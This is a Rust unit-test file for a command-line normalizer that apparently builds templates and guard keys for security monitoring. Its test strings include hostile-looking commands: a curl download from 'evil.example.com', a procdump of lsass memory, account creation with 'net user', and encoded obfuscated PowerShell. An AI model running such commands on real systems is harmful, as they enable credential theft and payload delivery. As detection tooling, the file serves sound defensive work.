use super::*;

fn c(line: &str) -> String {
    let mut out = String::new();
    canonical(line, &mut out);
    out
}

#[test]
fn volatile_parts_become_placeholders() {
    let cases = [
        (
            r#""C:\Program Files\X\a.exe"   /Id:{3EB3C877-1F16-487C-9050-104DBCD66683}"#,
            r#""c:\program files\x\a.exe" /id:{<guid>}"#,
        ),
        (
            r"C:\Users\pedro\AppData\Local\Microsoft\OneDrive\19.002.0107.0005\F.exe",
            r"c:\users\<user>\appdata\local\microsoft\onedrive\<ver>\f.exe",
        ),
        (
            "curl -k https://bob:pw@evil.example.com:8443/a/b.sh?x=1&y=2 -o /tmp/x91.sh",
            "curl -k https://<user>@<host>:<num>/a/b.sh?<query> -o <tmp>.sh",
        ),
        (
            r"net use \\fs01.corp.local\share42 /user:CORP\bob",
            r"net use \\<host>\share<num> /user:<user>",
        ),
        ("ping -n 5 10.0.0.7", "ping -n <num> <ip>"),
        ("ls -R /home/alice/src 2>&1", "ls -R /home/<user>/src 2>&1"),
        (
            "tar czf backup-2024-02-02.tgz /Users/bob/doc",
            "tar czf backup-<date>.tgz /Users/<user>/doc",
        ),
        (
            "sha256sum -c 81d310fa34e6a56a31145445891bb7b8",
            "sha256sum -c <hash>",
        ),
        ("ssh root@db7 uptime", "ssh <email> uptime"),
        (
            "chmod 4755 x9 && kill -9 1234",
            "chmod 4755 x<num> && kill -9 <num>",
        ),
        ("head -n5 'a b' \"c\" 'd'", "head -n<num> 'a b' c d"),
        ("a \\\n  b\nc\n", "a b ; c"),
        (
            "Invoke-Command -ComputerName SRV01 -ScriptBlock { whoami }",
            "invoke-command -computername <host> -scriptblock { whoami }",
        ),
        (
            "procdump -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp %TEMP%\\a1b2.dmp",
            "procdump -ma lsass.exe <tmp>/lsass.dmp <tmp>.dmp",
        ),
    ];
    for (line, expected) in cases {
        assert_eq!(c(line), expected, "{line}");
    }
}

#[test]
fn a_bare_name_is_a_host_or_a_user_where_its_place_says_so() {
    let cases = [
        ("ping -n 4 fileserver", "ping -n <num> <host>"),
        ("ping localhost", "ping localhost"),
        ("ssh -i key.pem web uptime", "ssh -i key.pem <host> uptime"),
        ("net user bob /add", "net user <user> /add"),
        ("net user administrator x", "net user administrator x"),
        ("net stop spooler", "net stop spooler"),
        ("sudo -u bob tar -xf a.tgz", "sudo -u <user> tar -xf a.tgz"),
        (
            "psql -h db -U app -c 'select 1'",
            "psql -h <host> -U <user> -c 'select <num>'",
        ),
        (
            "schtasks /query /s fs /u CORP\\bob",
            "schtasks /query /s <host> /u <user>",
        ),
        ("xcopy a b /s c", "xcopy a b /s c"),
        ("su - alice -c id", "su - <user> -c id"),
        ("dig example.com mx", "dig <host> mx"),
        (
            "Test-NetConnection -Port SMB fs",
            "test-netconnection -port smb <host>",
        ),
        ("/tmp/tmpa3d8 -x", "<tmp>/<hex> -x"),
        ("/tmp/payload7 -x", "<tmp>/payload7 -x"),
    ];
    for (line, expected) in cases {
        assert_eq!(c(line), expected, "{line}");
    }
}

#[test]
fn a_host_is_a_host_and_a_number_a_number_however_it_is_written() {
    assert_eq!(
        template_hash("ping 10.0.0.7"),
        template_hash("ping db01.corp.local")
    );
    assert_ne!(c("ping 10.0.0.7"), c("ping db01.corp.local"));
    assert_eq!(
        template_hash("smss.exe 000000c0 00000084"),
        template_hash("smss.exe 00000114 000000cc")
    );
}

#[test]
fn payloads_of_windows_are_read_as_windows_reads_them() {
    use base64::Engine as _;
    let encode = |text: &str| {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let blob = base64::engine::general_purpose::STANDARD.encode(bytes);
        c(&format!("powershell.exe -enc {blob}"))
    };
    assert_eq!(
        encode("$a1B=[rEf].gEt`TyPe(1)"),
        encode("$77f0=[Ref].GetType(2)")
    );
    assert_ne!(
        encode("$a1B=[rEf].gEt`TyPe(1)"),
        encode("$77f0=[Ref].GetTypes(2)")
    );
}

#[test]
fn quotes_that_hold_white_space_or_operators_stay() {
    assert_ne!(c("rm \"a b\""), c("rm a b"));
    assert_ne!(c("echo 'a | b'"), c("echo a | b"));
    assert_eq!(c("find . -name \"*.txt\""), c("find . -name '*.txt'"));
}

#[test]
fn linux_keeps_its_case_and_windows_folds_it() {
    assert_ne!(c("ls -R"), c("ls -r"));
    assert_eq!(
        c("C:\\Windows\\System32\\NOTEPAD.exe /A"),
        c("c:\\windows\\system32\\notepad.EXE /a")
    );
}

#[test]
fn names_with_digits_are_kept() {
    assert_eq!(
        c("python3 -m sha512 --ipv6 x64 k8s"),
        "python3 -m sha512 --ipv6 x64 k8s"
    );
    assert_ne!(
        template_hash("openssl dgst -sha1"),
        template_hash("openssl dgst -sha256")
    );
}

#[test]
fn encoded_commands_are_told_apart_by_what_they_decode_to() {
    use base64::Engine as _;
    let encode = |text: &str| {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        format!(
            "powershell -nop -enc {}",
            base64::engine::general_purpose::STANDARD.encode(bytes)
        )
    };
    assert_ne!(
        c(&encode("Start-Service bits")),
        c(&encode("Stop-Service bits"))
    );
    assert_eq!(c(&encode("Start-Sleep 10")), c(&encode("Start-Sleep 99")));
    assert!(c(&encode("Start-Sleep 10")).contains("<enc:"));
}

#[test]
fn unicode_survives() {
    assert_eq!(c("echo héllo 世界 \u{1f980}"), "echo héllo 世界 \u{1f980}");
    assert_eq!(c("C:\\ÄÖ.exe Ü"), "c:\\äö.exe ü");
}

#[test]
fn nothing_comes_of_nothing() {
    assert_eq!(c(""), "");
    assert_eq!(c(" \t\r\n "), "");
}

#[test]
fn equal_templates_have_equal_guard_keys() {
    let (a, b) = ("net user bob1 /add", "NET  user bob22 /ADD");
    assert_eq!(template_hash(a), template_hash(b));
    assert_eq!(
        super::super::guard::guard_key(a),
        super::super::guard::guard_key(b)
    );
}

#[test]
fn a_hostile_mebibyte_takes_linear_time() {
    let seeds = [
        "a",
        "A1/",
        "1.",
        "0x",
        "\"",
        "' ",
        "http://",
        "http://a?",
        "a@",
        "1:",
        "ff:",
        "a.b-",
        "\\\\",
        "<num>",
        "/tmp/",
        "$(",
        "%temp%\\",
        "\u{1f980}",
        "C:\\Users\\",
        "QQBB",
        "-enc QQBBAEEA ",
        "\\\"",
        "-e \"a b\" ",
    ];
    for seed in seeds {
        let line = seed.repeat((1 << 20) / seed.len());
        let start = std::time::Instant::now();
        let _ = c(&line);
        assert!(
            start.elapsed().as_secs() < 5,
            "{seed}: {:?}",
            start.elapsed()
        );
    }
}
